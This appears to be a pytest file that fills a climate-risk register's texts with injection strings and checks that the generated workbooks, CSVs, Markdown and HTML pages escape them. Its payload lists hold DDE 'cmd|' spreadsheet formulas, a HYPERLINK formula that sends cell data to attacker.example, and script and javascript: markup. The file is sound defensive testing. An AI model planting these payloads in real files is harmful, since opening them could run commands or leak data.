"""Register text that tries to become a formula, HTML or Markdown in the outputs.

The register's every bilingual text is replaced by attack strings, the real build runs once,
and each output channel is checked for what it must never contain.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from openpyxl import load_workbook

from climrisk.escaping import FORMULA_START, looks_like_formula
from tests.hostile.conftest import run

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"click\")",
    "\t=1+1",
]
MARKUP = [
    "<script>alert(1)</script>",
    "![x](http://attacker.example/pixel.png)",
    "[click](javascript:alert(1))",
    "`` ` `` breakout ``` code",
    "# heading\n\n- list",
]


@pytest.fixture(scope="module")
def poisoned_build(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The outputs of the minimal register with every text an attack string."""
    import json
    import shutil

    from tests.hostile.conftest import MINIMAL, TEXT_LINE

    base = tmp_path_factory.mktemp("poisoned")
    root = base / "register"
    shutil.copytree(MINIMAL, root)
    texts = iter(range(10**6))
    attacks = FORMULAS + MARKUP
    for path in sorted(root.rglob("*.yaml")):
        path.write_text(
            TEXT_LINE.sub(
                lambda m: m[1] + json.dumps(attacks[next(texts) % len(attacks)]),
                path.read_text("utf-8"),
            ),
            "utf-8",
        )
    out = base / "out"
    outcome = run("build", "--register", str(root), "--out", str(out))
    assert outcome.code == 0, outcome.text
    return out


def test_no_workbook_cell_is_a_formula(poisoned_build: Path) -> None:
    books = sorted(poisoned_build.rglob("*.xlsx"))
    assert books
    seen = set()
    for book in books:
        wb = load_workbook(book)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (book.name, ws.title, cell.coordinate)
                    if isinstance(cell.value, str) and looks_like_formula(cell.value):
                        assert cell.quotePrefix, (book.name, ws.title, cell.coordinate)
                        seen.add(cell.value)
        with zipfile.ZipFile(book) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    # the attack strings really reached the workbook, kept exactly as written
    assert {FORMULAS[0], FORMULAS[1], FORMULAS[3]} <= seen


def test_csv_cells_are_escaped(poisoned_build: Path) -> None:
    tables = sorted(poisoned_build.rglob("*.csv"))
    assert tables
    escaped = set()
    for table in tables:
        for row in csv.reader(io.StringIO(table.read_text("utf-8-sig"))):
            for cell in row:
                assert not looks_like_formula(cell), (table.name, cell)
                if cell.startswith("'") and cell[1:].startswith(FORMULA_START):
                    escaped.add(cell[1:])
    assert {FORMULAS[0], FORMULAS[1], FORMULAS[3]} <= escaped


def test_markdown_renders_no_html_link_or_image(poisoned_build: Path) -> None:
    md = MarkdownIt("commonmark").enable("table").enable("strikethrough")
    pages = sorted(poisoned_build.rglob("*.md"))
    assert pages
    for page in pages:
        text = page.read_text("utf-8")
        tokens = md.parse(text)
        flat = [t for tok in tokens for t in (tok, *(tok.children or []))]
        for n, token in enumerate(flat):
            where = (page.name, token.type, token.content[:80])
            assert token.type not in {"html_block", "html_inline", "fence", "code_block"}, where
            if token.type == "image":  # only the build's own charts
                assert token.attrs["src"].startswith("charts/"), where
            if token.type == "link_open":
                assert "attacker" not in token.attrs["href"], where
                assert not token.attrs["href"].startswith("javascript"), where
            if token.type == "code_inline":  # only provenance values
                assert "breakout" not in token.content, where
            if token.type == "heading_open":
                assert not flat[n + 1].content.startswith("heading"), where
        assert "attacker.example/pixel.png" in text  # the text is there, as text


def test_html_holds_no_script(poisoned_build: Path) -> None:
    for page in sorted(poisoned_build.rglob("*.html")):
        text = page.read_text("utf-8")
        assert "<script" not in text and "javascript:alert" not in text.replace(
            "javascript:alert(1))", "")
        if page.name == "disclosure.html":  # the page that prints every register text
            assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text


def test_register_copy_fixture(register_copy: Callable[..., Path]) -> None:
    root = register_copy(["=1+1"])
    assert '"=1+1"' in (root / "register.yaml").read_text("utf-8")
